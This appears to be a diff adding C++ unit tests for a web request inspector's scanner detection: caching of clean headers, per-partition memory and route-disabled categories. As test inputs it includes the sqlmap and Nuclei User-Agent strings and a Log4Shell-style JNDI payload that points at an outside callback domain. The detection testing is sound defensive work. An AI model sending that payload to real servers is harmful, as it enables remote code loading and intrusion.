@@ -24,6 +24,7 @@ namespace shieldx::detect {
 namespace {
 
 using testing::Flagged;
+using testing::HasCategory;
 using ::testing::HasSubstr;
 using testing::InspectWith;
 
@@ -1002,6 +1003,45 @@ TEST(CleanFieldCache, RepeatedAndInterleavedFieldsGiveTheFreshVerdict) {
     }
   }
   EXPECT_GT(ExpectFreshVerdictsOnOneScratch(reqs, 11)->clean_field_hits(), 0u);
+}
+
+// The scanner check remembers header values it found nothing in: the same User-Agent is
+// answered from memory on the next request, a tool's User-Agent or a callback domain is
+// reported every time, and a tool found on a route that drops scanner findings is not
+// remembered as clean for the routes that keep them.
+TEST(ScannerMemo, CleanHeadersAreRememberedToolsAreReportedEveryTime) {
+  const Inspector& in = testing::DefaultInspector();
+  auto scratch = in.NewScratch();
+  OwnedHttpRequest browser = testing::Get("/");
+  EXPECT_FALSE(Flagged(in.Inspect(browser.view(), *scratch)));
+  const uint64_t before = scratch->scanner_memo_hits();
+  EXPECT_FALSE(Flagged(in.Inspect(browser.view(), *scratch)));
+  EXPECT_GE(scratch->scanner_memo_hits() - before, 2u);  // User-Agent and Accept
+  OwnedHttpRequest tool = testing::Get("/");
+  tool.headers[1].second = "sqlmap/1.7.2#stable (https://sqlmap.org)";
+  OwnedHttpRequest callback = testing::Get("/");
+  callback.headers.emplace_back("X-Api-Version", "${jndi:ldap://a1b2.oast.fun/x}");
+  for (int i = 0; i < 3; ++i) {
+    EXPECT_TRUE(HasCategory(in.Inspect(tool.view(), *scratch), Category::kScanner)) << i;
+    EXPECT_TRUE(HasCategory(in.Inspect(callback.view(), *scratch), Category::kScanner)) << i;
+  }
+  // The same header value in another partition is scanned again.
+  scratch->SetCachePartition(9);
+  const uint64_t other = scratch->scanner_memo_hits();
+  in.Inspect(browser.view(), *scratch);
+  EXPECT_EQ(scratch->scanner_memo_hits(), other);
+}
+
+TEST(ScannerMemo, AToolDroppedByARouteIsNotRememberedAsClean) {
+  auto in = Make(R"({"routes":[{"path_prefix":"/quiet/","disabled_categories":["scanner"]}]})");
+  auto scratch = in->NewScratch();
+  OwnedHttpRequest quiet = testing::Get("/quiet/x");
+  quiet.headers[1].second = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)";
+  OwnedHttpRequest loud = testing::Get("/shop");
+  loud.headers[1].second = quiet.headers[1].second;
+  EXPECT_FALSE(HasCategory(in->Inspect(quiet.view(), *scratch), Category::kScanner));
+  EXPECT_FALSE(HasCategory(in->Inspect(quiet.view(), *scratch), Category::kScanner));
+  EXPECT_TRUE(HasCategory(in->Inspect(loud.view(), *scratch), Category::kScanner));
 }
 
 // Remembered values are per partition (a tenant): one tenant's traffic does not make another
